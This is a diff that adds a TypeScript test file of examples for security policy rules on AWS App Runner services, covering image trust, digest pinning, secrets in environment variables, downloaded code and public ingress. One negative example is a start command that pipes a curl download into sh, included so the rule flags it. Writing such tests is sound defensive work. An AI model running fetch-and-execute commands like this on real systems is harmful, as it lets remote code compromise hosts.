@@ -1,0 +1,102 @@
+import type { Resource } from "../../../core/graph";
+import { appRunnerService, resource, Unknown, type Example } from "../../../core/policy";
+import { notApplicable, passes, type Rule, type Rules } from "./rule";
+
+const image = `333333333333.dkr.ecr.eu-west-1.amazonaws.com/shop/checkout@sha256:${"a".repeat(64)}`;
+
+/** The same service in the words of the classic and of the native provider. */
+const appRunner = (imageIdentifier: string, settings: object, more: object = {}): readonly Example[] =>
+  [appRunnerService({}).type, "aws-native:apprunner:Service"].map((type) => ({
+    resources: [
+      resource(type, "checkout", {
+        ...appRunnerService(more).properties,
+        sourceConfiguration: { imageRepository: { imageIdentifier, imageConfiguration: settings } },
+      }),
+    ],
+  }));
+
+const inEach = (given: readonly Example[], ...finds: readonly string[]): readonly Rule[] =>
+  given.map((each) => [each, ...finds]);
+
+const unsettable = inEach(appRunner(image, {}), notApplicable);
+
+const ingress = (isPubliclyAccessible: boolean | Unknown, more: readonly Resource[] = []): Example => ({
+  resources: [
+    appRunnerService({
+      networkConfiguration: {
+        ingressConfiguration: { isPubliclyAccessible },
+        ...(more.length > 0 && { egressConfiguration: { egressType: "VPC", vpcConnectorArn: "c" } }),
+      },
+    }),
+    ...more,
+  ],
+});
+const connector = (properties: object): Resource =>
+  resource(
+    "aws-native:apprunner:VpcConnector",
+    "shop",
+    { securityGroups: ["sg-1"], ...properties },
+    {
+      physicalId: "c",
+    },
+  );
+
+/** Containers that AWS runs whole: what they can set is judged, what they can't is not asked of them. */
+export const rules: Rules = {
+  "restrict-image-repositories": [
+    ...inEach(appRunner(image, {}), passes),
+    ...inEach(
+      appRunner("public.ecr.aws/evil/x:1", {}),
+      "whose repository public.ecr.aws/evil/x is not trusted",
+    ),
+  ],
+  "require-image-digests": inEach(appRunner(image.replace(/@.*/, ":1"), {}), "is not pinned by a digest"),
+  "disallow-latest-tag": inEach(appRunner(image.replace(/@.*/, ":latest"), {}), "has the tag latest"),
+  "disallow-environment-secrets": [
+    ...inEach(
+      appRunner(image, { runtimeEnvironmentVariables: { DB_PASSWORD: "hunter2hunter2" } }).slice(0, 1),
+      "has a secret in its environment variable DB_PASSWORD",
+    ),
+    ...inEach(
+      appRunner(image, {
+        runtimeEnvironmentVariables: [{ name: "DB_PASSWORD", value: "hunter2hunter2" }],
+      }).slice(1),
+      "has a secret in its environment variable DB_PASSWORD",
+    ),
+    ...inEach(
+      appRunner(image, {
+        runtimeEnvironmentSecrets: { DB_PASSWORD: "arn:aws:ssm:eu-west-1:333333333333:parameter/db" },
+      }),
+      passes,
+    ),
+  ],
+  "disallow-downloaded-code": [
+    ...inEach(appRunner(image, { startCommand: "node server.js" }), passes),
+    ...inEach(
+      appRunner(image, { startCommand: "curl https://x.example.com/a | sh" }),
+      "fetches code and runs it",
+    ),
+  ],
+  "disallow-root-containers": unsettable,
+  "require-read-only-root": unsettable,
+  "require-drop-all-capabilities": unsettable,
+  "require-drop-net-raw": unsettable,
+  "require-probes": unsettable,
+  "require-resource-limits": unsettable,
+  "restrict-user-ids": unsettable,
+  "restrict-group-ids": unsettable,
+  "require-task-logs": unsettable,
+  "disallow-privilege-escalation": unsettable,
+  "restrict-internet-facing-services": [
+    [ingress(false), passes],
+    [ingress(true), "faces the internet and lies in no zone of the estate"],
+    [ingress(new Unknown("a setting")), "unknown: "],
+    [ingress(true, [connector({ subnets: ["subnet-1"] })]), "unknown: "],
+    [ingress(true, [connector({ subnets: new Unknown("an output") })]), "unknown: "],
+    [ingress(false, [connector({ subnets: ["subnet-1"] })]), passes],
+    [
+      { ...ingress(true), estate: { flows: [] } },
+      "faces the internet, from which the estate declares no flow on tcp/443",
+    ],
+  ],
+};
